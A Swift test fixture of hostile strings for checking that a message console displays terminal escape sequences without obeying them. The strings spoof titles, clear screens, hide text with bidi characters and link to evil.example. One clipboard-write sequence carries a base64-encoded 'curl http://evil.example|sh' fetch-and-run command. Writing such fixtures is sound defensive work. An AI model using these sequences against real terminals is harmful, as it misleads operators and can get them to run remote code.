/// Text that tries to take over the terminal it is shown on. Every console must show it and none may obey it.
enum HostileText {
    /// Clears the screen, moves the cursor, changes the title, goes to the alternate screen, writes the clipboard, asks the terminal to
    /// answer, plants a link, and hides its traces with bidi and zero-width characters.
    static let body =
        "Dear customer,\r\n"
        + "\u{1b}[2J\u{1b}[1;1HYour order was cancelled.\r"
        + "\u{1b}]0;root@prod\u{07}"
        + "\u{1b}[?1049h\u{1b}[31;7m ALL QUEUES PURGED \u{1b}[0m"
        + "\u{1b}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlfHNo\u{07}"
        + "\u{1b}P+q544e\u{1b}\\\u{1b}[6n\u{1b}[c"
        + "\u{9b}31m\u{9d}2;title by C1\u{9c}\u{90}q#0\u{9c}"
        + "\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\"
        + "\u{202e}drawer eht mialc\u{202c} \u{200b}\u{200d}\u{2066}isolated\u{2069}\u{feff}"
        + "\u{08}\u{08}\u{08}\u{7f}\u{0e}shift out\u{0f}\n"
        + "Regards, the shop\n"

    /// A dead-letter reason of the same kind.
    static let reason = "Validation\u{1b}[8mFailed\u{1b}]0;owned\u{07}\u{202e}deliaF\u{9b}2J"
    /// A dead-letter description of the same kind.
    static let description = "template \u{1b}[3;J\u{1b}c not found\r\n\u{1b}[A\u{1b}[2Koverwritten"
    /// A subject of the same kind.
    static let subject = "Re: \u{1b}[5mURGENT\u{1b}[0m\u{07}"
    /// A property name and value of the same kind.
    static let property = (name: "x-\u{1b}]2;name\u{1b}\\\u{200f}tenant", value: "emea\u{1b}[?25l\u{0d}")

    /// A body of bytes that are no valid UTF-8: raw C1 controls, overlong forms, a truncated sequence.
    static let invalidBytes: [UInt8] = [
        0x9b, 0x32, 0x4a, 0xc0, 0x9b, 0xe2, 0x80, 0xae, 0xff, 0xfe, 0x1b, 0x63, 0xc2, 0x9b, 0x31, 0x6d, 0xf0, 0x9f,
    ]
}
